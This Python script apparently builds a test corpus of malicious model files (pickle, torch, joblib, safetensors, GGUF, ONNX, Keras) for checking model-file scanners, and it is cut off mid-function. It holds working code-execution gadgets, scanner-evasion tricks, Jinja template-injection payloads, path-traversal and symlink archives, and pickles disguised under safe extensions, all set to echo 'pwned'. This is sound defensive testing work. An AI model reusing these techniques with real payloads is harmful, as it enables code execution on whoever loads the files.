"""Makes malicious model files. Every payload, were it run, would echo a word and do
nothing else; none is run here.

    python malicious.py OUT
"""
import base64, bz2, gzip, io, json, lzma, os, pickle, struct, sys, tarfile, zipfile, zlib
import numpy as np
from sample import attempt, evil, write

ECHO = "echo pwned"


def s(text):
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def g(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    return s(module) + s(name) + b"\x93"


def arg(v):
    if isinstance(v, str):
        return s(v)
    if isinstance(v, bytes):  # opcodes
        return v
    if v is None:
        return b"N"
    if isinstance(v, int):
        return b"K" + bytes([v])
    if isinstance(v, tuple):
        return b"(" + b"".join(map(arg, v)) + b"t"
    if isinstance(v, list):
        return b"](" + b"".join(map(arg, v)) + b"e"
    if isinstance(v, dict):
        return b"}(" + b"".join(arg(k) + arg(x) for k, x in v.items()) + b"u"


def call(module, name, *args, proto=4):
    return b"\x80" + bytes([proto]) + (sg if proto >= 4 else g)(module, name) + arg(args) + b"R."


SYSTEM = call("os", "system", ECHO)
DEEP = call("builtins", "exec", "print('pwned')")

# Ways to run something by one call: what the advisories of picklescan, fickling and
# modelscan name, and others of their kinds.
GADGETS = [
    ("os", "system", ECHO), ("posix", "system", ECHO), ("nt", "system", ECHO), ("os", "popen", ECHO), ("os", "execl", "/bin/echo", "echo", "pwned"), ("os", "spawnlp", 0, "echo", "echo", "pwned"), ("os", "posix_spawn", "/bin/echo", ["echo", "pwned"], {}),
    ("subprocess", "Popen", ["echo", "pwned"]), ("subprocess", "run", ["echo", "pwned"]), ("subprocess", "check_output", ["echo", "pwned"]), ("subprocess", "getoutput", ECHO), ("subprocess", "call", ["echo"]), ("commands", "getoutput", ECHO), ("popen2", "popen2", ECHO),
    ("builtins", "eval", "print('pwned')"), ("builtins", "exec", "print('pwned')"), ("__builtin__", "eval", "1"), ("builtins", "compile", "1", "x", "eval"), ("builtins", "__import__", "os"), ("builtins", "open", "/tmp/x", "w"), ("builtins", "getattr", "x", "__class__"), ("builtins", "breakpoint"), ("builtins", "print", "pwned"), ("builtins", "input", "x"), ("builtins", "setattr", "x", "y", "z"),
    ("importlib", "import_module", "os"), ("runpy", "run_module", "this"), ("runpy", "_run_code", "print(1)", {}), ("runpy", "run_path", "x.py"), ("pty", "spawn", "/bin/echo"), ("code", "InteractiveInterpreter"), ("codeop", "compile_command", "1"), ("timeit", "timeit", "print(1)", "pass"), ("timeit", "main", ["print(1)"]), ("pdb", "run", "print(1)"), ("bdb", "Bdb"), ("cProfile", "run", "print(1)"), ("profile", "run", "print(1)"), ("trace", "Trace"), ("doctest", "debug_script", "print(1)"), ("ensurepip", "_run_pip", ["x"]), ("pip", "main", ["x"]), ("venv", "create", "x"), ("webbrowser", "open", "http://localhost"), ("pydoc", "pipepager", "x", ECHO), ("pydoc", "locate", "os"), ("ctypes", "CDLL", "libc.so.6"), ("ctypes.util", "find_library", "c"), ("marshal", "loads", "x"), ("types", "FunctionType", "x"), ("types", "CodeType", "x"),
    ("pickle", "loads", "x"), ("_pickle", "loads", "x"), ("cPickle", "loads", "x"), ("shelve", "open", "x"), ("dill", "loads", "x"), ("joblib", "load", "x"), ("numpy", "load", "x"), ("torch", "load", "x"), ("torch.serialization", "load", "x"), ("pandas", "read_pickle", "x"), ("cloudpickle.cloudpickle", "loads", "x"), ("dill._dill", "_create_function", "x"), ("dill._dill", "_eval_repr", "print(1)"),
    ("torch.hub", "load", "x", "y"), ("torch.utils.cpp_extension", "load", "x", "y"), ("torch._inductor.codecache", "compile_file", "x"), ("torch.jit", "load", "x"), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "x"), ("torch._dynamo.guards", "GuardBuilder.get", "x"), ("torch.utils.collect_env", "run", ECHO), ("torch.utils._config_module", "ConfigModule.load_config", "x"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "x"),
    ("numpy.f2py.crackfortran", "getlincoef", "1", "x"), ("numpy.f2py.crackfortran", "param_eval", "1", "x"), ("numpy.testing._private.utils", "runstring", "print(1)", {}), ("numpy.distutils.cpuinfo", "getoutput", ECHO), ("numpy.lib.npyio", "load", "x"), ("numpy", "fromfile", "/etc/hostname"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "x"), ("idlelib.run", "Executive.runcode", "x"), ("lib2to3.pgen2.grammar", "Grammar.loads", "x"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "x"), ("distutils.spawn", "spawn", ["echo"]), ("distutils.file_util", "write_file", "x", []), ("setuptools.sandbox", "run_setup", "x"), ("test.support.script_helper", "assert_python_ok", "x"), ("uuid", "_get_command_stdout", "echo"), ("_osx_support", "_find_build_tool", "x"), ("_aix_support", "_read_cmd_output", ECHO), ("_pyrepl.pager", "pipe_pager", "x", ECHO), ("imaplib", "IMAP4_stream", ECHO), ("multiprocessing.util", "spawnv_passfds", "x"), ("asyncio.unix_events", "_UnixSubprocessTransport._start", "x"), ("concurrent.futures.process", "_python_exit"),
    ("socket", "create_connection", ("localhost", 9)), ("urllib.request", "urlopen", "http://localhost"), ("http.client", "HTTPConnection", "localhost"), ("ftplib", "FTP", "localhost"), ("smtplib", "SMTP", "localhost"), ("ssl", "get_server_certificate", ("localhost", 9)), ("requests", "get", "http://localhost"), ("requests.api", "get", "http://localhost"), ("aiohttp.client", "ClientSession"), ("telnetlib", "Telnet", "localhost"), ("xmlrpc.client", "ServerProxy", "http://localhost"), ("logging.config", "listen"),
    ("io", "open", "x"), ("io", "FileIO", "x", "w"), ("_io", "FileIO", "x", "w"), ("shutil", "rmtree", "/nonexistent"), ("pathlib", "Path.write_text", "x", "y"), ("logging", "FileHandler", "x"), ("logging.handlers", "RotatingFileHandler", "x"), ("tempfile", "mkstemp"), ("zipfile", "ZipFile", "x"), ("sqlite3", "connect", "x"), ("linecache", "getline", "x"), ("fileinput", "input", "x"),
    ("sys", "setrecursionlimit", 1), ("sys", "exit", 0), ("signal", "raise_signal", 9), ("gc", "get_objects"), ("atexit", "register", "x"), ("threading", "Thread"), ("_thread", "start_new_thread", "x"), ("operator", "attrgetter", "system"), ("operator", "methodcaller", "system", ECHO), ("functools", "reduce", "x", []), ("itertools", "starmap", "x", []),
    ("sympy", "sympify", "x"), ("pandas", "eval", "x"), ("pandas.core.computation.eval", "eval", "x"), ("numexpr", "evaluate", "x"), ("jsonpickle", "decode", "x"), ("yaml", "unsafe_load", "x"), ("tensorflow", "io.write_file", "x", "y"), ("keras.models", "load_model", "x"), ("transformers", "AutoModel.from_pretrained", "x"), ("IPython", "embed"), ("ipykernel.embed", "embed_kernel"), ("fabric", "Connection", "x"), ("paramiko", "SSHClient"), ("site", "main"), ("smtpd", "SMTPServer", "x"), ("cgitb", "enable"), ("getpass", "getpass"), ("platform", "popen", ECHO), ("netrc", "netrc", "x"), ("nltk", "download", "x"), ("sklearn.datasets", "fetch_openml", "x"), ("sklearn.utils", "_joblib.load", "x"), ("scipy.io", "loadmat", "x"), ("mypackage.module", "Thing", "x"), ("__main__", "Model"),
]


def gadgets():
    for i, (m, n, *a) in enumerate(GADGETS):
        write(evil("pickle-gadget", f"{i:03}-{m}.{n}.pkl"), call(m, n, *a, proto=(4, 2, 5, 3)[i % 4] if "." not in n else 4))


def tricks():
    w = lambda name, b: write(evil("pickle-trick", name + ".pkl"), b)
    w("proto0", b"cos\nsystem\n(S'echo pwned'\ntR.")
    w("inst", b"(S'echo pwned'\nios\nsystem\n.")
    w("obj", b"\x80\x01(" + g("os", "system") + b"U\x0aecho pwnedo.")
    w("newobj", b"\x80\x02" + g("subprocess", "Popen") + b"(U\x04echot\x81.")
    w("newobj_ex", b"\x80\x04" + sg("subprocess", "Popen") + arg(("echo",)) + b"}\x92.")
    w("memo_name", b"\x80\x04" + s("system") + b"\x94" + s("os") + b"\x94h\x01h\x00\x93" + arg((ECHO,)) + b"R.")
    w("memo_rebind", b"\x80\x02U\x04jsonq\x00U\x02osq\x00" + b"h\x00U\x06system\x93" + arg((ECHO,)) + b"R.")
    w("memo_high", b"\x80\x04" + s("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + s("system") + b"\x93" + arg((ECHO,)) + b"R.")
    w("dup", b"\x80\x04" + sg("os", "system") + b"2" + arg((ECHO,)) + b"R.")
    w("pop_mark", b"\x80\x04(KKKK1" + sg("os", "system") + arg((ECHO,)) + b"R.")
    w("escaped_name", b"cos\nsystem\n(S'\\x65cho pwned'\ntR.")
    w("escaped_global", b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + arg((ECHO,)) + b"R.")
    w("string_name", b"\x80\x04S'\\x6fs'\nS'sys\\164em'\n\x93" + arg((ECHO,)) + b"R.")
    w("cut", SYSTEM[:-1])
    w("broken_tail", SYSTEM[:-1] + b"\xff\xff\xff")
    w("bad_frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + SYSTEM[2:])
    w("after_stop", pickle.dumps({"a": 1}) + SYSTEM)
    w("after_stop_proto0", pickle.dumps({"a": 1}) + b"cos\nsystem\n(S'echo'\ntR.")
    w("wrong_proto", b"\x80\x09" + SYSTEM[2:])
    w("no_proto", SYSTEM[2:])
    w("junk_before", b"N0K\x010" * 2000 + SYSTEM[2:])
    w("long_string_before", s("x") + b"0X" + struct.pack("<I", 300000) + b"y" * 300000 + b"0" + SYSTEM[2:])
    w("ext", b"\x80\x02\x82\x01(U\x04echotR.")
    w("build_global", b"\x80\x04" + sg("collections", "OrderedDict") + arg({"__init__": 1}) + b"b.")
    w("setitem_global", b"\x80\x04" + sg("sys", "modules") + s("json") + b"Ns.")
    w("computed", b"\x80\x04" + sg("builtins", "getattr") + arg((sg("os", "path"), "system")) + b"R" + arg((ECHO,)) + b"R.")
    w("getattr_chain", b"\x80\x04" + sg("builtins", "getattr") + b"(" + sg("collections", "OrderedDict") + s("__init__") + b"tR" + s("__globals__") + b"\x86R.")
    w("dotted", b"\x80\x04" + sg("collections", "abc.sys.modules") + b".")
    w("dotted_sklearn", b"\x80\x04" + sg("sklearn.utils", "os.system") + arg((ECHO,)) + b"R.")
    w("dotted_torch", b"\x80\x04" + sg("torch.serialization", "os.system") + arg((ECHO,)) + b"R.")
    w("allowed_class_method", b"\x80\x04" + sg("collections", "OrderedDict.__init__.__globals__") + b".")
    w("partial", b"\x80\x04" + sg("functools", "partial") + arg((sg("os", "system"),)) + b"R.")
    w("partial_getattr", b"\x80\x04" + sg("functools", "partial") + arg((sg("builtins", "getattr"),)) + b"R.")
    w("defaultdict", b"\x80\x04" + sg("collections", "defaultdict") + arg((sg("os", "getcwd"),)) + b"R.")
    w("map", b"\x80\x04" + sg("builtins", "map") + arg((sg("os", "system"), [ECHO])) + b"R.")
    w("reconstructor", b"\x80\x02" + g("copyreg", "_reconstructor") + arg((g("subprocess", "Popen"), g("builtins", "object"), None)) + b"R.")
    w("ufunc", call("numpy.core", "_ufunc_reconstruct", "os", "system"))
    w("type", call("builtins", "type", "X", (), {}))
    w("codecs", call("_codecs", "encode", "x", "zlib_codec"))
    w("codecs_decode", call("codecs", "decode", "x", "hex"))
    w("constructor", call("xgboost.core", "Booster", None, (), "/etc/hostname"))
    w("load_from_bytes_computed", b"\x80\x04" + sg("torch.storage", "_load_from_bytes") + b"(" + sg("builtins", "bytes") + b"(KKtRtR.")
    w("rebuild", b"\x80\x04" + sg("torch._tensor", "_rebuild_from_type_v2") + arg((sg("os", "system"), sg("builtins", "int"), (ECHO,), None)) + b"R.")
    w("rebuild_guarded", b"\x80\x04" + sg("torch._tensor", "_rebuild_from_type_v2") + arg((sg("builtins", "getattr"), sg("builtins", "int"), ("x", "y"), None)) + b"R.")
    w("unicode_name", b"\x80\x04" + sg("\u0000os".strip("\0"), "system") + arg((ECHO,)) + b"R.")
    w("crlf", b"cos\r\nsystem\r\n(S'echo pwned'\ntR.")
    w("binunicode8", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + s("system") + b"\x93" + arg((ECHO,)) + b"R.")
    w("persid", b"Pos\n0" + b"cos\nsystem\n(S'echo'\ntR.")
    w("list_build", b"\x80\x04]" + sg("os", "system") + arg((ECHO,)) + b"Ra.")
    w("in_dict_key", b"\x80\x04}" + sg("os", "system") + arg((ECHO,)) + b"RK\x01s.")
    w("only_import", b"\x80\x04" + sg("antigravity", "x") + b".")
    w("int_memo", b"cos\nsystem\np+1\n0g0_1\n(S'echo'\ntR.")
    for name in ("model.bin", "weights.dat", "data.txt", "model.safetensors", "model.npy", "model.json", "model.gguf", "model.onnx", "model.h5"):
        write(evil("pickle-disguised", name), SYSTEM)
    write(evil("pickle-disguised", "text.txt"), b"cos\nsystem\n(S'echo pwned'\ntR.")
    write(evil("pickle-disguised", "text.bin"), b"cposix\nsystem\n(S'echo pwned'\ntR.")


def nested():
    for name, inner in (("raw", SYSTEM), ("base64", base64.b64encode(SYSTEM).decode()), ("hex", SYSTEM.hex()), ("proto0", b"cos\nsystem\n(S'echo'\ntR."), ("zipped", base64.b64encode(zlib.compress(SYSTEM)).decode()), ("gzipped", gzip.compress(SYSTEM)), ("twice", pickle.dumps({"a": SYSTEM})), ("base64_proto0", base64.b64encode(b"cos\nsystem\n(S'echo pwned'\ntR.").decode()), ("elf", b"\x7fELF\x02\x01\x01" + b"\0" * 100), ("zip", None)):
        if inner is None:
            b = io.BytesIO()
            with zipfile.ZipFile(b, "w") as z:
                z.writestr("x.pkl", SYSTEM)
            inner = b.getvalue()
        write(evil("nested", name + ".pkl"), pickle.dumps({"weights": [1, 2], "payload": inner}))


def kept():
    """What the frameworks' own functions run for a pickle: a file that torch loads out of
    bytes, an array of joblib's that other unpicklers run, methods and functions that are
    handed to those who call them."""
    w = lambda name, body: write(evil("pickle-kept", name + ".pkl"), b"\x80\x04" + body)
    call = lambda f, *args: f + arg(args) + b"R"
    big = lambda b: b"B" + struct.pack("<I", len(b)) + b
    new = lambda module, name: g(module, name) + b")\x81"
    text = b"cos\nsystem\n(S'echo pwned'\ntR."
    load, getattr_ = g("torch.storage", "_load_from_bytes"), g("builtins", "getattr")
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("archive/data.pkl", b"N0" + text)
        z.writestr("archive/version", "3")
    with tarfile.open(fileobj=tarred, mode="w") as t:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(text) + 2
            t.addfile(member, io.BytesIO(b"N0" + text))
    for name, inner in (("none", b"N0" + text), ("int", b"I1\n0" + text), ("binint", b"J\0\0\0\x000" + text), ("text", text), ("proto2", b"\x80\x02" + text), ("zip", zipped.getvalue()), ("tar", tarred.getvalue())):
        w("load_bytes_" + name, call(load, big(inner)) + b".")
        w("load_text_" + name, call(load, call(g("_codecs", "encode"), b"X" + struct.pack("<I", len(inner.decode("latin1").encode())) + inner.decode("latin1").encode(), "latin1")) + b".")
    w("load_bytearray", call(load, b"\x96" + struct.pack("<Q", len(text) + 2) + b"N0" + text) + b".")
    dtype = call(g("numpy", "dtype"), "u1", 0, 1) + arg((3, "|", None, None, None, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", 0)) + b"b"
    for name, before, code in (("array", b"", b"0" + text[:-1] + b"N"), ("array_memo", s("posix") + b"q\xc80" + s("system") + b"q\xc90", b"0h\xc8h\xc9\x93" + arg((ECHO,)) + b"RN")):
        w(name, before + b"(" + new("joblib.numpy_pickle", "NumpyArrayWrapper") + arg({"subclass": g("numpy", "ndarray"), "order": "C", "shape": (len(code),), "dtype": dtype, "allow_mmap": b"\x88"}) + b"b" + code + b"t.")
    method = call(getattr_, call(g("numpy", "ndarray"), (1,)), "tofile")
    partial = lambda f, *args: call(g("functools", "partial"), g("builtins", "int")) + b"(" + f + arg(args) + b"}}tb"
    w("generator", call(g("numpy.random._pickle", "__generator_ctor"), "/tmp/pwned", method) + b".")
    w("generator_partial", call(g("numpy.random._pickle", "__generator_ctor"), "a", partial(method, "/tmp/pwned")) + b".")
    w("partial_load", partial(load, big(text)) + b".")
    w("partial_import", partial(g("numpy.core", "_ufunc_reconstruct"), "evil", "x") + b".")
    w("printed", call(g("builtins", "str"), new("torch.nn.modules.module", "Module") + arg({"_modules": {}, "extra_repr": method}) + b"b") + b".")
    w("forward", new("torch.nn.modules.module", "Module") + arg({"_modules": {}, "forward": call(getattr_, call(g("pandas", "DataFrame")), "eval")}) + b"b.")
    w("hook", new("torch.nn.modules.linear", "Linear") + arg({"_forward_pre_hooks": call(g("collections", "OrderedDict")) + b"K\x00" + load + b"s"}) + b"b.")
    w("transformer", new("sklearn.preprocessing._function_transformer", "FunctionTransformer") + arg({"func": load, "validate": b"\x89"}) + b"b.")
    w("base", call(g("copyreg", "_reconstructor"), g("xgboost.core", "Booster"), g("xgboost.core", "Booster"), {}) + b".")


def torch_zip(path, data, root="archive", extra=(), method=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", method) as z:
        z.writestr(root + "/data.pkl", data); z.writestr(root + "/version", "3\n"); z.writestr(root + "/data/0", b"\0" * 64)
        for n, b in extra:
            z.writestr(n, b)


def patch(path, name, old, new, count=1):
    b = open(path, "rb").read()
    write(name, b.replace(old, new, count))


def torches():
    p = lambda n: evil("torch", n)
    torch_zip(p("plain.pt"), SYSTEM); torch_zip(p("deflated.pt"), SYSTEM, method=zipfile.ZIP_DEFLATED); torch_zip(p("bzip.pt"), SYSTEM, method=zipfile.ZIP_BZIP2); torch_zip(p("lzma.pt"), SYSTEM, method=zipfile.ZIP_LZMA)
    torch_zip(p("renamed.bin"), DEEP, root="x/y"); torch_zip(p("ckpt.ckpt"), call("torch.hub", "load", "x"))
    torch_zip(p("second.pt"), pickle.dumps({}), extra=[("archive/other.pkl", SYSTEM)])
    torch_zip(p("constants.pt"), pickle.dumps({}), extra=[("archive/constants.pkl", SYSTEM)])
    torch_zip(p("script_code.pt"), pickle.dumps({}), extra=[("archive/constants.pkl", pickle.dumps(())), ("archive/code/__torch__.py", "class M(Module):\n  def forward(self, x):\n    torch.save(x, \"/tmp/x\")\n    return x\n")])
    torch_zip(p("script_import.pt"), pickle.dumps({}), extra=[("archive/constants.pkl", pickle.dumps(())), ("archive/code/__torch__.py", "import os\n")])
    torch_zip(p("script_op.pt"), pickle.dumps({}), extra=[("archive/constants.pkl", pickle.dumps(())), ("archive/code/__torch__.py", "def f(x):\n  return ops.evil.run(x)\n")])
    torch_zip(p("elf.pt"), pickle.dumps({}), extra=[("archive/data/1", b"\x7fELF\x02\x01\x01" + b"\0" * 60)])
    torch_zip(p("traversal.pt"), pickle.dumps({}), extra=[("../../evil.py", "print(1)")])
    b = open(p("plain.pt"), "rb").read()
    i = b.index(b"archive/data.pkl")
    write(p("local_name.pt"), b[:i] + b"archive/data.txt" + b[i + 16:])
    write(p("encrypted_flag.pt"), b.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00", 1))
    k = b.index(b"PK\x03\x04") + 14
    write(p("crc.pt"), b[:k] + b"\1\2\3\4" + b[k + 4:])
    write(p("prefixed.pt"), b"MZ" + b"\0" * 100 + b)
    write(p("pickle_prefix.pt"), SYSTEM + b)
    write(p("appended.pt"), b + b"\0" * 30)
    magic = pickle.dumps(0x1950a86a20f9469cfc6c, 2)
    write(evil("torch-legacy", "object.pt"), magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + SYSTEM + pickle.dumps([], 2))
    write(evil("torch-legacy", "first.pt"), call("os", "system", ECHO, proto=2) + pickle.dumps(1001, 2))
    write(evil("torch-legacy", "sysinfo.pt"), magic + pickle.dumps(1001, 2) + SYSTEM + pickle.dumps({}, 2) + pickle.dumps([], 2))
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as f:
        for n, d in (("sys_info", pickle.dumps({}, 2)), ("pickle", SYSTEM), ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2))):
            info = tarfile.TarInfo(n); info.size = len(d); f.addfile(info, io.BytesIO(d))
    write(evil("torch-legacy", "tar.pt"), t.getvalue())


def joblibs():
    import joblib, lz4.frame, zstandard
    class Evil:
        def __reduce__(self):
            return (os.system, (ECHO,))
    w = lambda n, b: write(evil("joblib", n), b)
    for c in (0, 3, "gzip", "bz2", "xz", "lzma", "lz4"):
        joblib.dump({"a": np.zeros(5), "e": Evil()}, evil("joblib", f"{c}.joblib"), compress=c)
    joblib.dump([np.array([Evil(), None], dtype=object)], evil("joblib", "object_array.joblib"))
    joblib.dump([np.zeros((40, 50)), Evil()], evil("joblib", "behind_array.joblib"))
    for ext, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("lz4", lz4.frame.compress), ("zst", zstandard.compress)):
        write(evil("archive", "model.pkl." + ext), pack(SYSTEM))
    np.save(evil("npy", "object.npy"), np.array([Evil()], dtype=object), allow_pickle=True)
    np.savez(evil("npy", "object.npz"), a=np.zeros(3), b=np.array([Evil()], dtype=object))
    np.savez_compressed(evil("npy", "packed.npz"), b=np.array([Evil()], dtype=object))
    b = open(evil("npy", "object.npy"), "rb").read()
    write(evil("npy", "escaped.npy"), b.replace(b"'|O'", b'"O" '))
    import dill, cloudpickle
    f = lambda x: print("pwned")
    write(evil("dill", "function.pkl"), dill.dumps(f)); write(evil("dill", "cloud.pkl"), cloudpickle.dumps(f))
    class Local:
        def __init__(self):
            self.x = 1
    write(evil("dill", "class.dill"), dill.dumps(Local)); write(evil("dill", "instance.pkl"), cloudpickle.dumps(Local()))
    import py7zr
    with py7zr.SevenZipFile(evil("archive", "a.7z"), "w") as z:
        z.writestr(SYSTEM, "model.pkl")
    with py7zr.SevenZipFile(evil("archive", "b.7z"), "w", filters=[{"id": py7zr.FILTER_LZMA2, "preset": 1}]) as z:
        z.writestr(b"x" * 50000, "a.txt"); z.writestr(SYSTEM, "model.pkl")
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("model.pkl", SYSTEM)
    with tarfile.open(evil("archive", "deep.tar.gz"), "w:gz") as t:
        info = tarfile.TarInfo("a/inner.zip"); info.size = len(inner.getvalue()); t.addfile(info, io.BytesIO(inner.getvalue()))
    with tarfile.open(evil("archive", "traversal.tar"), "w") as t:
        info = tarfile.TarInfo("../../etc/cron.d/x"); info.size = 1; t.addfile(info, io.BytesIO(b"x"))
    with tarfile.open(evil("archive", "link.tar"), "w") as t:
        info = tarfile.TarInfo("x"); info.type = tarfile.SYMTYPE; info.linkname = "/etc/passwd"; t.addfile(info)
    nemo = io.BytesIO()
    with tarfile.open(fileobj=nemo, mode="w:gz") as t:
        for n, d in (("model_config.yaml", b"target: nemo.x.y.Z\n"), ("model_weights.ckpt", SYSTEM)):
            info = tarfile.TarInfo(n); info.size = len(d); t.addfile(info, io.BytesIO(d))
    write(evil("nemo", "weights.nemo"), nemo.getvalue())


def safetensors_files():
    def st(header, data=b""):
        h = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(h)) + h + data
    ok = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    w = lambda n, b: write(evil("safetensors", n + ".safetensors"), b)
    w("overlap", st({"a": ok, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\0" * 12))
    w("gap", st({"a": ok, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, b"\0" * 24))
    w("appended", st({"a": ok}, b"\0" * 8 + b"\x7fELF" + b"\1" * 60))
    w("header_bomb", struct.pack("<Q", 1 << 60) + b"{}")
    w("shape", st({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 8]}}, b"\0" * 8))
    w("overflow", st({"a": {"dtype": "F64", "shape": [1 << 62, 8], "data_offsets": [0, 8]}}, b"\0" * 8))
    w("duplicate", st(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', b"\0" * 8))
    w("code", st({"__metadata__": {"init": "import os; os.system('echo pwned')"}, "a": ok}, b"\0" * 8))
    w("token", st({"__metadata__": {"upload": "hf_" + "a" * 34}, "a": ok}, b"\0" * 8))
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("archive/data.pkl", SYSTEM)
    w("polyglot", st({"a": ok}, b"\0" * 8) + z.getvalue())


INJECT = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('echo').read() }}{% endif %}{% endfor %}", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}", "{{ self._TemplateReference__context }}", "{{ messages|attr('append') }}", "{{ ''['_' * 2 ~ 'class' ~ '_' * 2] }}", "{{ request.application }}", "{% include '/etc/passwd' %}", "{{ namespace.__init__.__globals__ }}", "{{ joiner|attr(['_'*2,'init','_'*2]|join) }}", "{{ '%c%c'|format(95, 95) }}", "{{ messages.run_code('x') }}"]


def templates():
    import gguf
    for i, t in enumerate(INJECT):
        write(evil("template", f"{i:02}.json"), json.dumps({"chat_template": t}))
    write(evil("template", "list.json"), json.dumps({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool", "template": INJECT[0]}]}))
    write(evil("template", "chat_template.jinja"), INJECT[1])
    for i in (0, 3, 8):
        w = gguf.GGUFWriter(evil("gguf", f"template{i}.gguf"), "llama"); w.add_chat_template(INJECT[i]); w.add_tensor("a", np.zeros(32, np.float32)); w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
    head = b"GGUF" + struct.pack("<I", 3)
    key = lambda k: struct.pack("<Q", len(k)) + k
    w = lambda n, b: write(evil("gguf", n + ".gguf"), b)
    w("counts", head + struct.pack("<QQ", 1 << 62, 1 << 62))
    w("string", head + struct.pack("<QQ", 0, 1) + key(b"a") + struct.pack("<IQ", 8, (1 << 64) - 1))
    w("array", head + struct.pack("<QQ", 0, 1) + key(b"a") + struct.pack("<IIQ", 9, 4, 1 << 62))
    w("dims", head + struct.pack("<QQ", 1, 0) + key(b"t") + struct.pack("<I", 1000) + b"\1" * 80)
    w("product", head + struct.pack("<QQ", 1, 0) + key(b"t") + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0) + b"\0" * 64)
    w("offset", head + struct.pack("<QQ", 1, 0) + key(b"t") + struct.pack("<IQIQ", 1, 32, 0, (1 << 64) - 32) + b"\0" * 200)
    w("key", head + struct.pack("<QQ", 0, 1) + struct.pack("<Q", 1 << 50))
    w("alignment", head + struct.pack("<QQ", 0, 1) + key(b"general.alignment") + struct.pack("<II", 4, 0))
    w("array_text", head + struct.pack("<QQ", 0, 1) + key(b"a") + struct.pack("<IIQ", 9, 8, 1 << 61))


def onnx_files():
    import onnx
    from onnx import helper, TensorProto as T
    def model(nodes, inits=(), **kw):
        gr = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", T.FLOAT, [1])], [helper.make_tensor_value_info("y", T.FLOAT, None)], list(inits))
        return helper.make_model(gr, **kw)
    def external(location):
        t = T(); t.name = "w"; t.data_type = T.FLOAT; t.dims.append(1); t.data_location = T.EXTERNAL
        e = t.external_data.add(); e.key = "location"; e.value = location
        return t
    for i, loc in enumerate(("../../../etc/passwd", "/etc/passwd", "a/../../b", "file:///etc/passwd", "..\\..\\x", "C:\\x", "*/_ORT_MEM_ADDR_/*")):
        write(evil("onnx", f"external{i}.onnx"), model([helper.make_node("Add", ["x", "w"], ["y"])], [external(loc)]).SerializeToString())
    t = external("../../x")
    write(evil("onnx", "constant.onnx"), model([helper.make_node("Constant", [], ["y"], value=t)]).SerializeToString())
    for d, op in (("evil.ops", "Run"), ("ai.onnx.contrib", "PyOp"), ("com.microsoft", "PythonOp")):
        write(evil("onnx", f"op-{op}.onnx"), model([helper.make_node(op, ["x"], ["y"], domain=d)], opset_imports=[helper.make_opsetid(d, 1)]).SerializeToString())
    sub = helper.make_graph([helper.make_node("Run", ["x"], ["t"], domain="evil")], "s", [], [helper.make_tensor_value_info("t", T.FLOAT, None)])
    write(evil("onnx", "in_branch.onnx"), model([helper.make_node("If", ["c"], ["y"], then_branch=sub, else_branch=sub)]).SerializeToString())
    m = model([helper.make_node("Relu", ["x"], ["y"])]); p = m.metadata_props.add(); p.key = "init"; p.value = "__import__('os').system('echo pwned')"
    write(evil("onnx", "metadata.onnx"), m.SerializeToString())


def keras_files():
    import h5py
    layer = lambda c, conf, module="keras.layers", registered=None: {"module": module, "class_name": c, "config": conf, "registered_name": registered}
    bodies = {
        "lambda": layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3").decode()}}}),
        "module": layer("function", "system", "os"), "function": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"},
        "custom": layer("Evil", {}, "mypackage.layers", "mypackage>Evil"), "registered": layer("Evil", {}, None, "Custom>Evil"), "get_file": layer("function", "get_file", "keras.utils"),
        "tfsm": layer("TFSMLayer", {"filepath": "/tmp/x"}), "torch": layer("TorchModuleWrapper", {"module": "x"}, "keras.layers"), "unsafe": layer("function", "enable_unsafe_deserialization", "keras.config"), "vocabulary": layer("StringLookup", {"vocabulary": "/etc/passwd"}), "subprocess": layer("Popen", {}, "subprocess"), "load_model": layer("function", "load_model", "keras.models"),
    }
    for name, body in bodies.items():
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer("InputLayer", {}), body]}, "registered_name": None}
        with zipfile.ZipFile(evil("keras", name + ".keras"), "w") as z:
